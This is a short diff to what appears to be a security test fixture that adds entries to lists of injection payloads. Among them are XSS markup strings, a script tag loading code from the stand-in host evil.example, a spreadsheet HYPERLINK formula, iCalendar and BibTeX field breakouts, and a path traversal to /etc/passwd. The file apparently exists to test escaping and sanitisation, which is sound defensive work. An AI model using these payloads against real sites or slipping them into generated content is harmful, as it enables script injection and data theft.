@@ -40,6 +40,10 @@ MARKUP = (
     "<noscript><p title='</noscript><img src=x onerror=canary(1)>'></noscript>",
     "<!--><script>canary(1)</script>-->",
     "<p id=search-input>x</p><a id=main name=main>x</a>",
+    "<!--<script>",
+    "<![CDATA[",
+    "<animate onbegin=canary(1) attributeName=x>",
+    "<script/src=//evil.example/x.js",
 )
 
 BREAKOUTS = (
@@ -61,6 +65,9 @@ BREAKOUTS = (
     "search-input",
     "\u202eevil\u202c",
     "../../../etc/passwd",
+    '=HYPERLINK("http://evil.example")',
+    "END:VEVENT\nATTACH:http://evil.example",
+    "},\n}\n@article{evil, url={http://evil.example}",
 )
 
 PAYLOADS = (*ADDRESSES, *MARKUP, *BREAKOUTS)
